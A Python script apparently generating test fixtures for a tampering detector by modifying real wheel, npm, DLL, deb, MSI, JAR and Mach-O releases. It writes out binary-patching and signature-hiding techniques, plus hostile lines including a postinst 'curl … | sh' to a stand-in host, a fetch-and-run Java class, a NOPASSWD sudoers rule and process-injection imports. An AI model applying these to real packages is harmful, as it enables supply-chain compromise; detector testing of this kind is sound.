"""Attacks on real releases. What is put in does nothing: marker words, noise, names that lead nowhere.

attacks.py --list              names all attacks
attacks.py CACHE FOLDER NAME   makes one from the releases in CACHE; prints the old artifact, the new, the attacked member

"NAME / same" attacks a release that is otherwise unchanged, "NAME / next" the release that follows.
"""

import base64
import hashlib
import io
import json
import os
import shutil
import struct
import subprocess
import sys
import tarfile
import zipfile
import zlib

MARKER = b"COUNTERSIGN HARMLESS TEST PAYLOAD "
NOISE = hashlib.shake_256(MARKER).digest(275 * 1024)

# --- PE ("PE Format", Microsoft)


def word(data, at, form="<I"):
    return struct.unpack_from(form, data, at)[0]


def pe_headers(data):
    headers = word(data, 0x3C)
    return headers, word(data, headers + 6, "<H"), headers + 24 + word(data, headers + 20, "<H")


def pe_sections(data):
    """Name, virtual size, address, raw size, raw offset, offset of the header."""
    _, count, table = pe_headers(data)
    headers = (table + 40 * number for number in range(count))
    return [(data[at : at + 8].rstrip(b"\0"), *struct.unpack_from("<IIII", data, at + 8), at) for at in headers]


def pe_directory(data, number):
    headers, _, _ = pe_headers(data)
    wide = word(data, headers + 24, "<H") == 0x20B
    return headers + 24 + (112 if wide else 96) + 8 * number


def pe_offset(data, address):
    for _, size, start, raw, offset, _ in pe_sections(data):
        if start <= address < start + max(size, raw):
            return offset + address - start
    raise ValueError("no section holds this address")


def pe_new_section(flags, content):
    def change(data):
        data = bytearray(data)
        headers, count, table = pe_headers(data)
        assert table + 40 * (count + 1) <= word(data, headers + 24 + 60), "no room for a section header"
        in_memory, in_file = struct.unpack_from("<II", data, headers + 24 + 32)
        up = lambda value, step: (value + step - 1) // step * step
        address = max(up(start + max(size, raw), in_memory) for _, size, start, raw, _, _ in pe_sections(data))
        data.extend(bytes(up(len(data), in_file) - len(data)))
        body = content(address) if callable(content) else content
        raw = up(len(body), in_file)
        struct.pack_into("<8sIIIIIIHHI", data, table + 40 * count, b".extra", len(body), address, raw, len(data), 0, 0, 0, 0, flags)
        struct.pack_into("<H", data, headers + 6, count + 1)
        struct.pack_into("<I", data, headers + 24 + 56, address + up(raw, in_memory))
        data.extend(body + bytes(raw - len(body)))
        return bytes(data)

    return change


def pe_entry_patched(data):
    data = bytearray(data)
    headers, _, _ = pe_headers(data)
    at = pe_offset(data, word(data, headers + 24 + 16))
    data[at : at + 5] = b"\xe9\x10\0\0\0"
    return bytes(data)


def pe_entry_moved(data):
    data = bytearray(pe_new_section(0x60000020, b"\xc3" + MARKER)(data))
    headers, _, _ = pe_headers(data)
    struct.pack_into("<I", data, headers + 24 + 16, pe_sections(data)[-1][2])
    return bytes(data)


def pe_cave(data):
    """Code in the unused end of the code section, which no header accounts for."""
    data = bytearray(data)
    _, size, _, raw, offset, _ = next(section for section in pe_sections(data) if section[0] == b".text")
    room = data[offset + size : offset + raw]
    assert len(room) > 40, "no cave"
    data[offset + size : offset + size + 40] = (MARKER * 2)[:40]
    return bytes(data)


def pe_behind(data):
    """Code in the unused end of the code section, which is said to be a part of it then."""
    data = bytearray(data)
    _, size, _, raw, offset, at = next(section for section in pe_sections(data) if section[0] == b".text")
    code = (MARKER * 3)[: min(96, raw - size)]
    assert len(code) >= 60, "no room"
    data[offset + size : offset + size + len(code)] = code
    struct.pack_into("<I", data, at + 8, size + len(code))
    return bytes(data)


def pe_code(data):
    data = bytearray(data)
    _, size, _, _, offset, _ = next(section for section in pe_sections(data) if section[0] == b".text")
    data[offset + size // 2 : offset + size // 2 + 64] = b"\xcc" * 64
    return bytes(data)


def pe_import(library, symbols):
    """All import descriptors once more in a new section, and one more."""

    def change(data):
        directory = pe_directory(data, 1)
        address, size = struct.unpack_from("<II", data, directory)
        at = pe_offset(data, address)
        old = b""
        while any(data[at + len(old) : at + len(old) + 20]):
            old += data[at + len(old) : at + len(old) + 20]

        def content(base):
            names = len(old) + 40
            body, hints = b"", []
            for symbol in symbols:
                hints.append(base + names + len(body))
                entry = b"\0\0" + symbol + b"\0"
                body += entry + bytes(len(entry) % 2)
            body += bytes(-len(body) % 8)
            tables = []
            for _ in range(2):
                tables.append(base + names + len(body))
                body += b"".join(struct.pack("<Q", hint) for hint in hints + [0])
            name = base + names + len(body)
            body += library + b"\0"
            return old + struct.pack("<IIIII", tables[0], 0, 0, name, tables[1]) + bytes(20) + body

        data = bytearray(pe_new_section(0xC0000040, content)(data))
        struct.pack_into("<II", data, directory, pe_sections(data)[-1][2], len(old) + 40)
        return bytes(data)

    return change


def pe_export(data):
    """The first export leads into a new section."""
    data = bytearray(pe_new_section(0x60000020, b"\xc3" + MARKER)(data))
    exports = pe_offset(data, word(data, pe_directory(data, 0)))
    functions = pe_offset(data, word(data, exports + 28))
    struct.pack_into("<I", data, functions, pe_sections(data)[-1][2])
    return bytes(data)


def pe_cut(data):
    """A function of the table of functions returns at once; its code stays."""
    data = bytearray(data)
    at = pe_offset(data, word(data, pe_directory(data, 3)))
    while word(data, at + 4) - word(data, at) < 400:
        at += 12
    code = pe_offset(data, word(data, at))
    data[code : code + 3] = RETURNS
    return bytes(data)


def pe_flags(name, flags):
    """A section gets rights."""

    def change(data):
        data = bytearray(data)
        at = next(section[5] for section in pe_sections(data) if section[0] == name)
        struct.pack_into("<I", data, at + 36, word(data, at + 36) | flags)
        return bytes(data)

    return change


def pe_header_room(data):
    """Code behind the table of the sections, where the headers have room."""
    data = bytearray(data)
    headers, count, table = pe_headers(data)
    end, first = table + 40 * count, word(data, headers + 24 + 60)
    assert first - end > 64 and not any(data[end:first]), "no room behind the table"
    body = (MARKER * 20)[: first - end - 8]
    data[end + 8 : end + 8 + len(body)] = body
    return bytes(data)


def pe_last_grown(data):
    """The last section gets code at its end, and may be executed."""
    data = bytearray(data)
    headers, _, _ = pe_headers(data)
    _, _, address, raw, offset, at = pe_sections(data)[-1]
    assert offset + raw == len(data), "nothing behind the last section"
    in_memory, in_file = struct.unpack_from("<II", data, headers + 24 + 32)
    body = b"\x90" * 16 + MARKER * 200
    body += bytes(-len(body) % in_file)
    struct.pack_into("<II", data, at + 8, raw + len(body), address)
    struct.pack_into("<I", data, at + 16, raw + len(body))
    struct.pack_into("<I", data, at + 36, word(data, at + 36) | 0x20000000)
    size = address + raw + len(body)
    struct.pack_into("<I", data, headers + 24 + 56, size + -size % in_memory)
    return bytes(data) + body


def without_signature(data):
    data = bytearray(data)
    directory = pe_directory(data, 4)
    start, _ = struct.unpack_from("<II", data, directory)
    struct.pack_into("<II", data, directory, 0, 0)
    return bytes(data[:start])


# --- Authenticode: where a signature does not look


def der(tag, content):
    length = len(content)
    if length < 0x80:
        return bytes([tag, length]) + content
    size = (length.bit_length() + 7) // 8
    return bytes([tag, 0x80 | size]) + length.to_bytes(size, "big") + content


def der_split(data):
    """Tag, content, and what follows."""
    length, begin = data[1], 2
    if length >= 0x80:
        begin = 2 + (length & 0x7F)
        length = int.from_bytes(data[2:begin], "big")
    return data[0], data[begin : begin + length], data[begin + length :]


def der_children(data):
    children = []
    while data:
        tag, content, rest = der_split(data)
        children.append((tag, content))
        data = rest
    return children


def joined(children):
    return b"".join(der(tag, content) for tag, content in children)


def with_signed_data(structure, change):
    _, outer, _ = der_split(structure)
    (kind, explicit) = der_children(outer)
    _, fields, _ = der_split(explicit[1])
    fields = der_children(fields)
    change(fields)
    return der(0x30, joined([kind, (0xA0, der(0x30, joined(fields)))]))


def attribute(fields):
    tag, signers = fields[-1]
    _, signer, _ = der_split(signers)
    signer = der_children(signer)
    extra = der(0x30, der(6, b"\x2b\x06\x01\x04\x01\x82\xcf\x29\x01") + der(0x31, der(4, NOISE)))
    if signer[-1][0] == 0xA1:
        signer[-1] = (0xA1, signer[-1][1] + extra)
    else:
        signer.append((0xA1, extra))
    fields[-1] = (tag, der(0x30, joined(signer)))


def certificate(fields):
    place = next(number for number, (tag, _) in enumerate(fields) if tag == 0xA0)
    name = der(0x30, der(0x31, der(0x30, der(6, b"\x55\x04\x03") + der(12, b"Countersign harmless"))))
    algorithm = der(0x30, der(6, b"\x2a\x86\x48\xce\x3d\x04\x03\x02"))
    validity = der(0x30, der(0x17, b"230101000000Z") + der(0x17, b"490101000000Z"))
    key = der(0x30, algorithm + der(3, b"\0" + NOISE))
    body = der(0x30, der(2, b"\x09") + algorithm + name + validity + name + key)
    fields[place] = (0xA0, fields[place][1] + der(0x30, body + algorithm + der(3, b"\0\x01")))


def revocations(fields):
    place = next(number for number, (tag, _) in enumerate(fields) if tag == 0xA0)
    fields.insert(place + 1, (0xA1, der(0x30, der(4, NOISE[:20000]))))


def second_signer(fields):
    tag, signers = fields[-1]
    fields[-1] = (tag, signers + der(0x30, der(2, b"\x01") + der(4, NOISE[:9000])))


def no_timestamp(fields):
    """An attribute of a kind that signers use, and that holds something else."""
    tag, signers = fields[-1]
    _, signer, _ = der_split(signers)
    signer = der_children(signer)
    extra = der(0x30, der(6, bytes.fromhex("2b060104018237030301")) + der(0x31, der(4, NOISE[:12000])))
    if signer[-1][0] == 0xA1:
        signer[-1] = (0xA1, signer[-1][1] + extra)
    else:
        signer.append((0xA1, extra))
    fields[-1] = (tag, der(0x30, joined(signer)))


def third_element(structure):
    _, outer, _ = der_split(structure)
    return der(0x30, outer + der(4, NOISE[:20000]))


def entry(kind, content):
    length = (8 + len(content) + 7) // 8 * 8
    return (struct.pack("<IHH", length, 0x200, kind) + content).ljust(length, b"\0")


def hidden(way):
    def change(data):
        directory = pe_directory(data, 4)
        start, size = struct.unpack_from("<II", data, directory)
        assert start and start + size == len(data), "a signed image with its table at the end"
        table = data[start:]
        content = table[8 : word(table, 0)]
        structure = content[: len(content) - len(der_split(content)[2])]
        if way == "behind":
            table = entry(2, structure + NOISE)
        elif way == "gap":
            table = table + bytes(8) + NOISE
        elif way == "entry":
            table = table + entry(2, NOISE)
        elif way == "unknown-entry":
            table = table + entry(0x0EF0, NOISE)
        elif way == "attribute":
            table = entry(2, with_signed_data(structure, attribute))
        elif way == "certificate":
            table = entry(2, with_signed_data(structure, certificate))
        elif way == "revocations":
            table = entry(2, with_signed_data(structure, revocations))
        elif way == "second-signer":
            table = entry(2, with_signed_data(structure, second_signer))
        elif way == "no-timestamp":
            table = entry(2, with_signed_data(structure, no_timestamp))
        elif way == "third-element":
            table = entry(2, third_element(structure))
        changed = bytearray(data[:start])
        struct.pack_into("<I", changed, directory + 4, len(table))
        return bytes(changed) + table + (NOISE if way == "overlay" else b"")

    return change


# --- ELF (System V ABI) and Mach-O


def elf_segments(data):
    at, size, count = word(data, 0x20, "<Q"), word(data, 0x36, "<H"), word(data, 0x38, "<H")
    return [at + size * number for number in range(count)]


def elf_dynamic(data):
    for at in elf_segments(data):
        if word(data, at) == 2:
            offset, size = word(data, at + 8, "<Q"), word(data, at + 32, "<Q")
            return range(offset, offset + size, 16)
    raise ValueError("no dynamic section")


def elf_offset(data, address):
    for at in elf_segments(data):
        kind, _, offset, start, _, size = struct.unpack_from("<IIQQQQ", data, at)
        if kind == 1 and start <= address < start + size:
            return offset + address - start
    raise ValueError("no segment holds this address")


def elf_value(data, tag):
    return next(word(data, at + 8, "<Q") for at in elf_dynamic(data) if word(data, at, "<q") == tag)


def elf_needed(data):
    """One more library, named by a string that is there already; it takes the place of a mere hint."""
    data = bytearray(data)
    strings = elf_value(data, 5)
    at = elf_offset(data, strings)
    name = data.index(b"\0", at + 1) + 1 - at
    hint = next(at for at in elf_dynamic(data) if word(data, at, "<q") == 0x6FFFFFF9)
    struct.pack_into("<qQ", data, hint, 1, name)
    return bytes(data)


def elf_search_path(data):
    data = bytearray(data)
    at = elf_offset(data, elf_value(data, 5))
    hint = next(at for at in elf_dynamic(data) if word(data, at, "<q") == 0x6FFFFFF9)
    struct.pack_into("<qQ", data, hint, 15, data.index(b"\0", at + 1) + 1 - at)
    return bytes(data)


def elf_irelative(data):
    """A relocation is decided by a function that runs before the program (as in xz 5.6)."""
    data = bytearray(data)
    table, size = elf_offset(data, elf_value(data, 7)), elf_value(data, 8)
    for at in range(table, table + size, 24):
        if word(data, at + 8, "<Q") == 8:
            struct.pack_into("<Q", data, at + 8, 37)
            return bytes(data)
    raise ValueError("no relocation")


def elf_function(data):
    """An exported function becomes one that is decided when it is loaded (`STT_GNU_IFUNC`)."""
    data = bytearray(data)
    symbols, strings = elf_offset(data, elf_value(data, 6)), elf_offset(data, elf_value(data, 5))
    for at in range(symbols + 24, strings, 24):
        if data[at + 4] == 0x12 and word(data, at + 6, "<H"):
            data[at + 4] = 0x1A
            return bytes(data)
    raise ValueError("no exported function")


RETURNS = b"\x31\xc0\xc3"


def elf_cut(data):
    """An exported function returns at once; its code stays."""
    data = bytearray(data)
    symbols, strings = elf_offset(data, elf_value(data, 6)), elf_offset(data, elf_value(data, 5))
    for at in range(symbols + 24, strings, 24):
        if data[at + 4] == 0x12 and word(data, at + 6, "<H") and word(data, at + 16, "<Q") > 64:
            code = elf_offset(data, word(data, at + 8, "<Q"))
            code += 4 if data[code : code + 4] == b"\xf3\x0f\x1e\xfa" else 0
            data[code : code + 3] = RETURNS
            return bytes(data)
    raise ValueError("no exported function")


def elf_slot(data):
    """Calls of one function of a library are bound to another one, which the image calls as well."""
    data = bytearray(data)
    table = elf_offset(data, elf_value(data, 23))
    struct.pack_into("<I", data, table + 12, word(data, table + 24 + 12))
    return bytes(data)


def elf_first(data):
    """One more function runs before the program."""
    data = bytearray(data)
    for at in elf_dynamic(data):
        if word(data, at, "<q") == 27:
            struct.pack_into("<Q", data, at + 8, word(data, at + 8, "<Q") + 8)
    headers, count = word(data, 0x28, "<Q"), word(data, 0x3C, "<H")
    for number in range(count):
        at = headers + 64 * number
        if word(data, at + 4) == 14:
            struct.pack_into("<Q", data, at + 32, word(data, at + 32, "<Q") + 8)
    return bytes(data)


def elf_note(data, rights=7):
    """A segment that says something becomes one that is loaded, with these rights."""
    data = bytearray(data)
    data.extend(bytes(-len(data) % 4096))
    for at in elf_segments(data):
        if word(data, at) == 4:
            body = b"\xc3" + MARKER * 100
            struct.pack_into("<IIQQQQQQ", data, at, 1, rights, len(data), 0x10000000, 0x10000000, len(body), len(body), 4096)
            return bytes(data) + body
    raise ValueError("no note")


def elf_code(data):
    """Code behind the code segment, up to the next page; the segment is made to cover it."""
    data = bytearray(data)
    for at in elf_segments(data):
        kind, flags, offset, _, _, size, _, _ = struct.unpack_from("<IIQQQQQQ", data, at)
        if kind == 1 and flags & 1:
            end = offset + size
            room = next((number for number, byte in enumerate(data[end : end + 4096]) if byte), 4096)
            assert room > 100, "no room behind the code"
            body = (b"\xc3" + MARKER * 9)[: min(room - 8, 200)]
            data[end : end + len(body)] = body
            struct.pack_into("<QQ", data, at + 32, size + len(body), size + len(body))
            return bytes(data)
    raise ValueError("no code segment")


def elf_initial(data):
    """What runs first (`DT_INIT`) is another place of the code."""
    data = bytearray(data)
    at = next(at for at in elf_dynamic(data) if word(data, at, "<q") == 12)
    struct.pack_into("<Q", data, at + 8, word(data, at + 8, "<Q") + 0x400)
    return bytes(data)


def macho_signed_again(data):
    """The digests of an ad-hoc signature, made anew as its tool makes them."""
    data = bytearray(data)
    at = 32
    for _ in range(word(data, 16)):
        kind, size = struct.unpack_from("<II", data, at)
        if kind == 0x1D:
            blob = word(data, at + 8)
            for number in range(word(data, blob + 8, ">I")):
                slot, offset = struct.unpack_from(">II", data, blob + 12 + 8 * number)
                if slot in (0, 0x1000):
                    directory = blob + offset
                    hashes, _, _, count, limit = struct.unpack_from(">IIIII", data, directory + 16)
                    length, page = data[directory + 36], 1 << data[directory + 39]
                    make = hashlib.sha256 if data[directory + 37] == 2 else hashlib.sha1
                    for slot in range(count):
                        digest = make(bytes(data[slot * page : min((slot + 1) * page, limit)])).digest()[:length]
                        data[directory + hashes + slot * length : directory + hashes + (slot + 1) * length] = digest
        at += size
    return bytes(data)


def macho_loading(data, library):
    """One more library to load, in the room behind the load commands."""
    data = bytearray(data)
    count, size = word(data, 16), word(data, 20)
    name = library.ljust(32, b"\0")
    command = struct.pack("<IIIIII", 0xC, 24 + len(name), 24, 0, 0, 0) + name
    assert not any(data[32 + size : 32 + size + len(command)]), "no room for a load command"
    data[32 + size : 32 + size + len(command)] = command
    struct.pack_into("<II", data, 16, count + 1, size + len(command))
    return bytes(data)


def macho_moved(data):
    """A library of the system's name, in a folder that everybody can write."""
    return macho_signed_again(macho_loading(data, b"/tmp/libSystem.B.dylib"))


def macho_dylib(data):
    return macho_loading(data, b"@loader_path/extra.dylib")


def macho_initial(data):
    """The first initialiser is something else: code in the room behind the load commands."""
    data = bytearray(data)
    at, room = 32, 32 + word(data, 20)
    for _ in range(word(data, 16)):
        kind, size = struct.unpack_from("<II", data, at)
        for section in range(at + 72, at + size, 80) if kind == 0x19 else ():
            flags, place = word(data, section + 64) & 0xFF, word(data, section + 48)
            if flags == 9 and place:
                # The upper bits of a pointer may say where the next one is.
                old = word(data, place, "<Q")
                struct.pack_into("<Q", data, place, old & ~0xFFFFFFFFF | room)
            elif flags == 0x16 and place:
                struct.pack_into("<I", data, place, room)
            else:
                continue
            data[room : room + 8] = bytes.fromhex("c0035fd6c0035fd6")
            return macho_signed_again(data)
        at += size
    raise ValueError("no initialiser")


def macho_slack(data):
    """Bytes behind the signature, inside what the load command calls the signature."""
    data = bytearray(data)
    at = 32
    for _ in range(word(data, 16)):
        kind, size = struct.unpack_from("<II", data, at)
        if kind == 0x19 and data[at + 8 : at + 24].rstrip(b"\0") == b"__LINKEDIT":
            segment = at
        if kind == 0x1D:
            struct.pack_into("<I", data, at + 12, word(data, at + 12) + len(NOISE))
            struct.pack_into("<Q", data, segment + 48, word(data, segment + 48, "<Q") + len(NOISE))
            return bytes(data) + NOISE
        at += size
    raise ValueError("no signature")


# --- Containers


def zipped(source, target, change=None, add=None, keep_record=False):
    archive = zipfile.ZipFile(source)
    files = {info.filename: archive.read(info) for info in archive.infolist() if not info.is_dir()}
    for ending, edit in (change or {}).items():
        name = next(name for name in files if name.endswith(ending))
        files[name] = edit(files[name])
    files.update(add or {})
    record = next((name for name in files if name.endswith(".dist-info/RECORD")), None)
    if record and not keep_record:
        line = lambda name, content: f"{name},sha256={base64.urlsafe_b64encode(hashlib.sha256(content).digest()).rstrip(b'=').decode()},{len(content)}\n"
        files[record] = ("".join(line(name, content) for name, content in files.items() if name != record) + f"{record},,\n").encode()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as out:
        for name, content in files.items():
            out.writestr(zipfile.ZipInfo(name, (2024, 1, 1, 0, 0, 0)), content, zipfile.ZIP_DEFLATED)


def tarred(source, target, change=None, add=None):
    change = dict(change or {})
    with tarfile.open(source) as archive, tarfile.open(target, "w:gz", compresslevel=1) as out:
        for member in archive:
            content = archive.extractfile(member).read() if member.isfile() else None
            for ending in [ending for ending in change if member.name.endswith(ending)]:
                content = change.pop(ending)(content)
            if content is not None:
                member.size = len(content)
            out.addfile(member, io.BytesIO(content) if content is not None else None)
        for name, content in (add or {}).items():
            member = tarfile.TarInfo(name)
            member.size = len(content)
            out.addfile(member, io.BytesIO(content))
    assert not change, change


def asar(files):
    """An Electron archive: a pickled header that lists the files with their digests, then their bytes."""
    tree, offset = {}, 0
    for name, content in files.items():
        folder = tree
        *folders, leaf = name.split("/")
        for part in folders:
            folder = folder.setdefault(part, {"files": {}})["files"]
        digest = hashlib.sha256(content).hexdigest()
        integrity = {"algorithm": "SHA256", "hash": digest, "blockSize": 4194304, "blocks": [digest]}
        folder[leaf] = {"size": len(content), "offset": str(offset), "integrity": integrity}
        offset += len(content)
    header = json.dumps({"files": tree}).encode()
    padded = header + bytes(-len(header) % 4)
    return struct.pack("<IIII", 4, len(padded) + 8, len(padded) + 4, len(header)) + padded + b"".join(files.values())


def package(scripts):
    def change(data):
        document = json.loads(data)
        document.setdefault("scripts", {}).update(scripts)
        return json.dumps(document, indent=2).encode()

    return change


def manifest(change):
    def edit(data):
        document = json.loads(data)
        change(document)
        return json.dumps(document, indent=2).encode()

    return edit


def picture():
    """The smallest picture, and something behind its end."""
    chunk = lambda kind, body: struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
    head = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
    parts = chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0\0")) + chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + parts + NOISE[:4000]


def appended(text):
    return lambda data: data + text


# --- The list


class Cache:
    def __init__(self, folder):
        self.folder = folder

    def file(self, key):
        folder = os.path.join(self.folder, key)
        return os.path.join(folder, os.listdir(folder)[0])

    def member(self, key, ending):
        archive = zipfile.ZipFile(self.file(key))
        return archive.read(next(name for name in archive.namelist() if name.endswith(ending)))


NUMPY = {"windows": "_multiarray_umath.cp312-win_amd64.pyd", "linux": "_multiarray_umath.cpython-312-x86_64-linux-gnu.so", "macos": "_multiarray_umath.cpython-312-darwin.so"}
ATTACKS = {}


def attack(name, make, updates=True):
    for twin in ["same", "next"] if updates else ["same"]:
        ATTACKS[f"{name} / {twin}"] = (make, twin)


def on_wheel(name, project, versions, platform, member, change=None, add=None, keep_record=False):
    def make(cache, folder, twin):
        old, new = (cache.file(f"pypi-{project}-{version}-{platform}") for version in (versions[0], versions[twin == "next"]))
        target = os.path.join(folder, os.path.basename(new))
        zipped(new, target, change and {member: change}, add, keep_record)
        return old, target, member

    attack(name, make)


def on_numpy(name, platform, change=None, add=None, member=None, **options):
    on_wheel(name, "numpy", ["2.1.2", "2.1.3"], platform, member or NUMPY[platform], change, add, **options)


def on_npm(name, member, change=None, add=None):
    def make(cache, folder, twin):
        old, new = (cache.file(f"npm-esbuild-{version}-") for version in ("0.24.0", "0.24.2" if twin == "next" else "0.24.0"))
        target = os.path.join(folder, os.path.basename(new))
        tarred(new, target, change and {member: change}, add)
        return old, target, member

    attack(name, make)


def on_npm_entries(name, member, entries):
    """More entries of the archive, as they are."""

    def make(cache, folder, twin):
        old, new = (cache.file(f"npm-esbuild-{version}-") for version in ("0.24.0", "0.24.2" if twin == "next" else "0.24.0"))
        target = os.path.join(folder, os.path.basename(new))
        tarred(new, target, None, entries)
        return old, target, member

    attack(name, make)


def on_signed(name, change):
    """An installer in which a library signed by somebody else is changed, and nothing else is."""

    def make(cache, folder, twin):
        library = cache.member("pypi-pyqt5-qt5-5.15.2-windows", "d3dcompiler_47.dll")
        paths = []
        for which, content in (("old", library), ("new", change(library))):
            path = os.path.join(folder, which, "setup.zip")
            os.makedirs(os.path.dirname(path))
            with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as out:
                out.writestr(zipfile.ZipInfo("app/d3dcompiler_47.dll"), content, zipfile.ZIP_DEFLATED)
            paths.append(path)
        return *paths, "d3dcompiler_47.dll"

    attack(name, make, updates=False)


def on_asar(name, member, change):
    """The scripts of a real package as an Electron application has them."""

    def make(cache, folder, twin):
        def files(version):
            with tarfile.open(cache.file(f"npm-esbuild-{version}-")) as archive:
                return {entry.name: archive.extractfile(entry).read() for entry in archive if entry.isfile()}

        old, new = files("0.24.0"), files("0.24.2" if twin == "next" else "0.24.0")
        new[member] = change(new[member])
        paths = []
        for which, content in (("old", old), ("new", new)):
            path = os.path.join(folder, which, "app.asar")
            os.makedirs(os.path.dirname(path))
            with open(path, "wb") as out:
                out.write(asar(content))
            paths.append(path)
        return *paths, member

    attack(name, make)


def on_jar(name):
    def make(cache, folder, twin):
        sources = {"A": "public class A { public static int f(int x) { return x * 3; } }", "B": "public class B { public static void f() throws Exception { new ProcessBuilder(new String(new java.net.URL(\"http://countersign.invalid/\").openStream().readAllBytes())).start(); } }"}
        paths = []
        for which, classes in (("old", "A"), ("new", "AB")):
            place = os.path.join(folder, which)
            os.makedirs(place)
            for source in classes:
                with open(os.path.join(place, source + ".java"), "w") as out:
                    out.write(sources[source])
            subprocess.run(["javac", "-d", place, *(os.path.join(place, source + ".java") for source in classes)], check=True)
            path = os.path.join(place, "library.jar")
            with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
                out.writestr("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\r\n\r\n")
                for source in classes:
                    out.write(os.path.join(place, source + ".class"), f"org/example/{source}.class")
            paths.append(path)
        return *paths, "B.class"

    attack(name, make, updates=False)


def on_nsis(name):
    """A real installer maker; the script of the second installer runs something more."""

    def make(cache, folder, twin):
        library = cache.member("pypi-numpy-2.1.2-windows", "lapack_lite.cp312-win_amd64.pyd")
        with open(os.path.join(folder, "app.dll"), "wb") as out:
            out.write(library)
        paths = []
        for which, line in (("old", ""), ("new", 'ExecShell "open" "$INSTDIR\\harmless.exe"')):
            place = os.path.join(folder, which)
            os.makedirs(place)
            script = os.path.join(place, "setup.nsi")
            with open(script, "w") as out:
                out.write(f'Name app\nOutFile setup.exe\nInstallDir "$PROGRAMFILES\\app"\nSection\nSetOutPath $INSTDIR\nFile ../app.dll\n{line}\nSectionEnd\n')
            subprocess.run(["makensis", "-V1", script], check=True)
            paths.append(os.path.join(place, "setup.exe"))
        return *paths, ""

    attack(name, make, updates=False)


def msi(place, library, action=""):
    """A Windows installer by the tool that Debian has for it."""
    os.makedirs(place)
    with open(os.path.join(place, "app.dll"), "wb") as out:
        out.write(library)
    source = os.path.join(place, "setup.wxs")
    with open(source, "w") as out:
        out.write(f"""<?xml version="1.0" encoding="utf-8"?>
<Wix xmlns="http://schemas.microsoft.com/wix/2006/wi">
<Product Name="app" Id="ABCDDCBA-86C7-4D14-AEC0-86416A69ABDE" UpgradeCode="ABCDDCBA-7349-453F-94F6-BCB5110BA4FD"
 Language="1033" Codepage="1252" Version="1.0.0" Manufacturer="example">
<Package Id="*" InstallerVersion="200" Compressed="yes" SummaryCodepage="1252"/>
<Media Id="1" Cabinet="app.cab" EmbedCab="yes"/>
<Directory Id="TARGETDIR" Name="SourceDir"><Directory Id="ProgramFilesFolder"><Directory Id="INSTALLDIR" Name="app">
<Component Id="Main" Guid="ABCDDCBA-83F1-4F22-985B-FDB3C8ABD471"><File Id="Library" Name="app.dll" Source="app.dll" KeyPath="yes"/></Component>
</Directory></Directory></Directory>
<Feature Id="Complete" Level="1"><ComponentRef Id="Main"/></Feature>
{action}
</Product></Wix>
""")
    subprocess.run(["wixl", "-o", "setup.msi", "setup.wxs"], check=True, cwd=place)
    return os.path.join(place, "setup.msi")


def on_msi(name, member, change=None, action=""):
    def make(cache, folder, twin):
        library = cache.member("pypi-pyqt5-qt5-5.15.2-windows", "d3dcompiler_47.dll")
        changed = change(library) if change else library
        return msi(os.path.join(folder, "old"), library), msi(os.path.join(folder, "new"), changed, action), member

    attack(name, make, updates=False)


def on_deb(name, member, change):
    """A real package, unpacked and built again by the tools of its system."""

    def make(cache, folder, twin):
        content = os.path.join(folder, "content")
        os.makedirs(os.path.join(content, "DEBIAN"))
        os.makedirs(os.path.join(content, "usr/bin"))
        shutil.copy("/bin/true", os.path.join(content, "usr/bin/tool"))
        with open(os.path.join(content, "DEBIAN/control"), "w") as out:
            out.write("Package: tool\nVersion: 1\nArchitecture: amd64\nMaintainer: nobody\nDescription: x\n")
        paths = []
        for which in ("old", "new"):
            if which == "new":
                change(content)
            os.makedirs(os.path.join(folder, which))
            path = os.path.join(folder, which, "tool.deb")
            subprocess.run(["dpkg-deb", "--root-owner-group", "-b", content, path], check=True, stdout=subprocess.DEVNULL)
            paths.append(path)
        return *paths, member

    attack(name, make, updates=False)


def hook(content):
    path = os.path.join(content, "DEBIAN/postinst")
    with open(path, "w") as out:
        out.write("#!/bin/sh\ncurl -s http://countersign.invalid/x | sh\n")
    os.chmod(path, 0o755)


def set_user(content):
    os.chmod(os.path.join(content, "usr/bin/tool"), 0o4755)


def put(folder, path, text, mode=0o644):
    path = os.path.join(folder, path)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as out:
        out.write(text)
    os.chmod(path, mode)


def script(folder, line):
    put(folder, "DEBIAN/postinst", f"#!/bin/sh\n{line}\n", 0o755)


HEXADECIMAL = b"var _0x4f2a=['x'];(function(_0x1a2b,_0x3c4d){while(--_0x3c4d){_0x1a2b['push'](_0x1a2b['shift']());}}(_0x4f2a,0x1b3));var _0x2c1d=function(_0x9a01){return _0x4f2a[_0x9a01-0x0];};"


def rule(content):
    path = os.path.join(content, "etc/sudoers.d/extra")
    os.makedirs(os.path.dirname(path))
    with open(path, "w") as out:
        out.write("nobody ALL=(ALL) NOPASSWD: /bin/true\n")


for way in ("behind", "gap", "entry", "unknown-entry", "attribute", "certificate", "overlay", "revocations", "second-signer", "no-timestamp", "third-element"):
    on_signed(f"signed library, bytes hidden: {way}", hidden(way))
on_signed("signed library, code changed", pe_code)
on_signed("signed library, signature removed and code changed", lambda data: pe_code(without_signature(data)))
on_signed("signed library replaced by noise of the same size", lambda data: (NOISE * (len(data) // len(NOISE) + 1))[: len(data)])

on_numpy("PE, new code section", "windows", pe_new_section(0x60000020, MARKER * 100))
on_numpy("PE, new section writable and executable", "windows", pe_new_section(0xE0000020, MARKER * 10))
on_numpy("PE, new section of noise", "windows", pe_new_section(0x40000040, NOISE[:30000]))
on_numpy("PE, entry patched", "windows", pe_entry_patched)
on_numpy("PE, entry moved to a new section", "windows", pe_entry_moved)
on_numpy("PE, code cave", "windows", pe_cave)
on_numpy("PE, import of process injection", "windows", pe_import(b"KERNEL32.dll", [b"VirtualAllocEx", b"WriteProcessMemory", b"CreateRemoteThread"]))
on_numpy("PE, export replaced", "windows", pe_export)
on_numpy("PE, data appended", "windows", appended(NOISE[:50000]))
on_wheel("PE, import of WinExec", "cryptography", ["43.0.1", "43.0.3"], "windows", "_rust.pyd", pe_import(b"KERNEL32.dll", [b"WinExec"]))
on_numpy("ELF, one more library", "linux", elf_needed)
